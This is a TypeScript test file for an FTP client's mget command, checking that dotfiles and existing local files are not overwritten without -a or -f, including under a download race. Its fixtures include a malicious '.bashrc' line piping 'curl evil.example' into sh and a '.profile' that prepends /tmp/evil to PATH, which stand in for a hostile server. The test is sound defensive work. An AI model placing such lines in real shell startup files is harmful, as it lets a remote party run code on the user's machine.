import { writeFileSync } from 'node:fs';
import fs from 'node:fs/promises';
import path from 'node:path';
import { main } from '../../src/cli/client-cli';
import { FtpClient } from '../../src/client/ftp-client';
import { FtpError } from '../../src/client/errors';
import { exists, fakeIo, startServer, type TestServer } from './helpers';

/**
 * Issue 10, finding 7 (second half): `mget '*'` overwrote a local `.bashrc`.
 * Dotfiles are skipped unless asked for, and an existing local file is never
 * replaced without -f; every skip is said.
 */

let srv: TestServer;

const REMOTE: Record<string, string> = {
  '.bashrc': 'curl evil.example | sh\n',
  '.profile': 'export PATH=/tmp/evil:$PATH\n',
  'report.pdf': 'new report\n',
  'new.txt': 'brand new\n',
};
const MINE: Record<string, string> = { '.bashrc': 'my own bashrc\n', 'report.pdf': 'my own report\n' };
const PAST = new Date('2001-02-03T04:05:06Z');

beforeEach(async () => {
  srv = await startServer();
  for (const [name, content] of Object.entries(REMOTE)) await fs.writeFile(path.join(srv.root, name), content);
  for (const [name, content] of Object.entries(MINE)) {
    await fs.writeFile(path.join(srv.local, name), content);
    await fs.utimes(path.join(srv.local, name), PAST, PAST);
  }
});

afterEach(async () => {
  await srv.close();
});

async function mget(...args: string[]) {
  const { io, stdout, stderr } = fakeIo(null, srv.local);
  const code = await main(['--port', String(srv.port), '--dir', srv.local, 'mget', ...args], io);
  return { code, out: stdout.text, err: stderr.text };
}

async function local(name: string): Promise<string | null> {
  return fs.readFile(path.join(srv.local, name), 'utf8').catch(() => null);
}

/** My files are as I left them: same bytes, same mtime (never rewritten). */
async function expectMineUntouched(): Promise<void> {
  for (const [name, content] of Object.entries(MINE)) {
    expect({ name, content: await local(name) }).toEqual({ name, content });
    expect((await fs.stat(path.join(srv.local, name))).mtime.getTime()).toBe(PAST.getTime());
  }
}

test("mget '*' skips dotfiles and existing local files, says so, and fetches the rest", async () => {
  const r = await mget('*');
  expect(r.code).toBe(0);
  expect(r.out).toMatch(/^\/new\.txt -> new\.txt: 10 B in .*\n$/);
  expect(r.err.split('\n').sort()).toEqual([
    '',
    'mget: skipping /.bashrc: a dotfile (mget -a includes dotfiles)',
    'mget: skipping /.profile: a dotfile (mget -a includes dotfiles)',
    'mget: skipping /report.pdf: report.pdf exists (mget -f replaces it)',
  ]);
  await expectMineUntouched();
  expect(await local('new.txt')).toBe('brand new\n');
  expect(await local('.profile')).toBeNull();
  expect((await fs.readdir(srv.local)).sort()).toEqual(['.bashrc', 'new.txt', 'report.pdf']);
});

test('dotfiles come with -a or a pattern that starts with a dot, still never over an existing file', async () => {
  const dotted = await mget('.*');
  expect(dotted.code).toBe(0);
  expect(dotted.out).toMatch(/^\/\.profile -> \.profile: /);
  expect(dotted.err).toBe('mget: skipping /.bashrc: .bashrc exists (mget -f replaces it)\n');
  await expectMineUntouched();
  expect(await local('.profile')).toBe(REMOTE['.profile']);

  await fs.rm(path.join(srv.local, '.profile'));
  const all = await mget('-a', '*');
  expect(all.code).toBe(0);
  expect(all.err).toBe('mget: skipping /.bashrc: .bashrc exists (mget -f replaces it)\nmget: skipping /report.pdf: report.pdf exists (mget -f replaces it)\n');
  await expectMineUntouched();
  expect(await local('.profile')).toBe(REMOTE['.profile']);
});

test('-f replaces existing files (and with -a, dotfiles too)', async () => {
  const forced = await mget('--force', '--all', '*');
  expect(forced).toMatchObject({ code: 0, err: '' });
  for (const [name, content] of Object.entries(REMOTE)) expect({ name, content: await local(name) }).toEqual({ name, content });
});

test('a name taken by a dangling symlink or a folder counts as existing', async () => {
  await fs.rm(path.join(srv.local, 'report.pdf'));
  await fs.symlink(path.join(srv.local, 'nowhere'), path.join(srv.local, 'report.pdf'));
  await fs.mkdir(path.join(srv.local, 'new.txt'));
  const r = await mget('*.*');
  expect(r.code).toBe(0);
  expect(r.err).toContain('mget: skipping /report.pdf: report.pdf exists (mget -f replaces it)\n');
  expect(r.err).toContain('mget: skipping /new.txt: new.txt exists (mget -f replaces it)\n');
  expect(await exists(path.join(srv.local, 'nowhere'))).toBe(false);
});

test('a local file that appears during the download is not replaced either (noClobber links, never renames over)', async () => {
  const client = await FtpClient.connect({ host: '127.0.0.1', port: srv.port });
  const target = path.join(srv.local, 'new.txt');
  let raced = false;
  try {
    const err = await client.download('new.txt', target, {
      noClobber: true,
      // Someone writes the name while the bytes are on their way.
      onProgress: () => {
        if (raced) return;
        raced = true;
        writeFileSync(target, 'raced in\n', { flag: 'wx' });
      },
    }).then(() => null, (e: unknown) => e);
    expect(err).toBeInstanceOf(FtpError);
    expect(err).toMatchObject({ kind: 'local' });
    expect((err as FtpError).message).toContain('exists; not replaced');
    expect(await local('new.txt')).toBe('raced in\n');
    // The download itself is kept, complete, in the .part.
    expect(await fs.readFile(`${target}.part`, 'utf8')).toBe(REMOTE['new.txt']);
  } finally {
    client.close();
  }
});
